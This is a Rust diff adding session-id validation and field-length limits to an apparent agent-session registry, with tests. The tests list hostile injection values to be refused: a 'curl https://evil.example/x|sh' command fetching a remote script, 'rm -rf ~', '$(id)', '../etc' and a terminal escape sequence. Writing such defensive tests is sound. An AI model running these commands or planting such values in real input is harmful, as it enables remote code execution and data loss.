@@ -407,25 +407,136 @@ impl Observation {
 
     /// Checks what the registry needs before it will look at an observation.
     pub fn validate(&self) -> Result<(), InvalidObservation> {
-        if self.session_id.trim().is_empty() {
-            return Err(InvalidObservation::EmptySessionId);
-        }
-        if self.session_id.len() > 256 {
-            return Err(InvalidObservation::SessionIdTooLong);
-        }
+        validate_session_id(&self.session_id)?;
         if self.pid == Some(0) {
             return Err(InvalidObservation::ZeroPid);
         }
         Ok(())
     }
+
+    /// Cuts every text field to its limit (see [`FieldLimit`]), marking each cut with
+    /// [`CUT_MARK`]. Returns the names of the fields it cut.
+    pub fn bound_fields(&mut self) -> Vec<&'static str> {
+        let mut cut = Vec::new();
+        let mut bound = |name: &'static str, field: &mut Option<String>, limit: FieldLimit| {
+            if let Some(text) = field {
+                if cut_to(text, limit.bytes()) {
+                    cut.push(name);
+                }
+            }
+        };
+        bound("subagent_id", &mut self.subagent_id, FieldLimit::Name);
+        bound("cwd", &mut self.cwd, FieldLimit::Path);
+        bound("repo", &mut self.repo, FieldLimit::Name);
+        bound("branch", &mut self.branch, FieldLimit::Name);
+        bound("model", &mut self.model, FieldLimit::Name);
+        bound(
+            "transcript_path",
+            &mut self.transcript_path,
+            FieldLimit::Path,
+        );
+        bound("start_source", &mut self.start_source, FieldLimit::Name);
+        bound(
+            "notification_type",
+            &mut self.notification_type,
+            FieldLimit::Name,
+        );
+        bound("tool_name", &mut self.tool_name, FieldLimit::Name);
+        bound("error", &mut self.error, FieldLimit::Text);
+        bound("waiting_for", &mut self.waiting_for, FieldLimit::Text);
+        bound("title", &mut self.title, FieldLimit::Text);
+        bound("tmux", &mut self.tmux, FieldLimit::Name);
+        bound("tty", &mut self.tty, FieldLimit::Name);
+        bound("seq", &mut self.seq, FieldLimit::Name);
+        cut
+    }
+
+    /// The one gate every observation passes on its way into the registry, whatever fed it
+    /// (socket, hook journal, agent files): a valid session id, and no field over its limit.
+    pub fn admit(mut self) -> Result<Observation, InvalidObservation> {
+        self.validate()?;
+        self.bound_fields();
+        Ok(self)
+    }
+}
+
+/// The longest session id accepted, in bytes. The agents' ids are UUIDs (36 bytes).
+pub const MAX_SESSION_ID_LEN: usize = 128;
+
+/// True for the bytes a session id may hold: ASCII letters, digits, `-`, `_` and `.`.
+fn session_id_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')
+}
+
+/// Session ids reach the registry from hooks, the socket and file names, and end up in file
+/// paths and in "Copy resume" command lines. So one rule, checked where every observation enters:
+/// 1 to [`MAX_SESSION_ID_LEN`] bytes of ASCII letters, digits, `-`, `_` and `.`, beginning with a
+/// letter or a digit (so never an option like `-x`, nor `.` or `..`).
+pub fn validate_session_id(id: &str) -> Result<(), InvalidObservation> {
+    if id.trim().is_empty() {
+        return Err(InvalidObservation::EmptySessionId);
+    }
+    if id.len() > MAX_SESSION_ID_LEN {
+        return Err(InvalidObservation::SessionIdTooLong { len: id.len() });
+    }
+    let bytes = id.as_bytes();
+    if !bytes[0].is_ascii_alphanumeric() || !bytes.iter().all(|b| session_id_byte(*b)) {
+        return Err(InvalidObservation::SessionIdCharset {
+            shown: id.escape_default().to_string(),
+        });
+    }
+    Ok(())
+}
+
+/// What a cut field ends with, so a reader knows the text is not whole.
+pub const CUT_MARK: &str = "…[cut]";
+
+/// The per-field limits of an [`Observation`], in bytes, [`CUT_MARK`] included. Longer text is
+/// cut at a character boundary and marked, never stored whole.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FieldLimit {
+    /// `cwd`, `transcript_path`: a path (PATH_MAX is 4096).
+    Path,
+    /// `title`, `error`, `waiting_for`: a line of prose.
+    Text,
+    /// Everything else (`repo`, `branch`, `model`, `tool_name`, `tmux`, `tty`, ids, …).
+    Name,
+}
+
+impl FieldLimit {
+    pub const fn bytes(self) -> usize {
+        match self {
+            FieldLimit::Path => 4096,
+            FieldLimit::Text => 1024,
+            FieldLimit::Name => 256,
+        }
+    }
+}
+
+/// Cuts `text` to at most `limit` bytes, ending with [`CUT_MARK`], at a character boundary.
+/// Returns whether it cut.
+pub fn cut_to(text: &mut String, limit: usize) -> bool {
+    if text.len() <= limit {
+        return false;
+    }
+    let mut end = limit.saturating_sub(CUT_MARK.len());
+    while end > 0 && !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    text.truncate(end);
+    text.push_str(CUT_MARK);
+    text.shrink_to_fit();
+    true
 }
 
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 pub enum InvalidObservation {
     #[error("session_id is empty")]
     EmptySessionId,
-    #[error("session_id is longer than 256 bytes")]
-    SessionIdTooLong,
+    #[error("session_id is {len} bytes long; at most {MAX_SESSION_ID_LEN} are allowed")]
+    SessionIdTooLong { len: usize },
+    #[error("session_id \"{shown}\" is refused: a session id is ASCII letters, digits, '-', '_' and '.', beginning with a letter or a digit")]
+    SessionIdCharset { shown: String },
     #[error("pid 0 is not a process")]
     ZeroPid,
 }
@@ -586,6 +697,78 @@ mod tests {
         assert_eq!(s.project().as_deref(), Some("api-server"));
         s.repo = Some("monorepo".into());
         assert_eq!(s.project().as_deref(), Some("monorepo"));
+    }
+
+    #[test]
+    fn session_ids_are_letters_digits_dash_underscore_dot_and_nothing_else() {
+        for good in [
+            "33413ec6-95b9-4336-8b7d-2d91c4d8b30c",
+            "019a4f2e-7c1d-7b52-a1f0-5d2a9c3e8b71",
+            "s1",
+            "a.b_c-d",
+            &"x".repeat(MAX_SESSION_ID_LEN),
+        ] {
+            assert_eq!(validate_session_id(good), Ok(()), "{good}");
+        }
+        for bad in [
+            "x; curl https://evil.example/x|sh #",
+            "$(id)",
+            "a b",
+            "-rf",
+            ".",
+            "..",
+            "../etc",
+            "id\u{1b}]52;c;aGk=\u{7}",
+            "é",
+            "a\nb",
+        ] {
+            assert!(
+                matches!(
+                    validate_session_id(bad),
+                    Err(InvalidObservation::SessionIdCharset { .. })
+                ),
+                "{bad:?} must be refused"
+            );
+        }
+        assert_eq!(
+            validate_session_id(""),
+            Err(InvalidObservation::EmptySessionId)
+        );
+        assert_eq!(
+            validate_session_id(&"x".repeat(MAX_SESSION_ID_LEN + 1)),
+            Err(InvalidObservation::SessionIdTooLong {
+                len: MAX_SESSION_ID_LEN + 1
+            })
+        );
+        let message = validate_session_id("x; rm -rf ~")
+            .err()
+            .map(|e| e.to_string())
+            .unwrap_or_default();
+        assert!(message.contains("ASCII letters, digits"), "{message}");
+    }
+
+    #[test]
+    fn over_long_fields_are_cut_at_a_char_boundary_and_marked() {
+        let mut obs = Observation::new("s", Agent::Claude, EventKind::Stop, Utc::now());
+        obs.cwd = Some(format!("/{}", "é".repeat(1 << 19)));
+        obs.title = Some("t".repeat(5000));
+        obs.model = Some("opus".into());
+        let cut = obs.bound_fields();
+        assert_eq!(cut, ["cwd", "title"]);
+        let cwd = obs.cwd.as_deref().unwrap_or_default();
+        assert!(cwd.len() <= FieldLimit::Path.bytes(), "{}", cwd.len());
+        assert!(cwd.ends_with(CUT_MARK));
+        assert!(cwd.starts_with("/é"));
+        let title = obs.title.as_deref().unwrap_or_default();
+        assert_eq!(title.len(), FieldLimit::Text.bytes());
+        assert!(title.ends_with(CUT_MARK));
+        assert_eq!(
+            obs.model.as_deref(),
+            Some("opus"),
+            "short fields stay whole"
+        );
+        let admitted = obs.clone().admit();
+        assert_eq!(admitted, Ok(obs), "admitting twice changes nothing");
     }
 
     fn sample_session() -> Session {
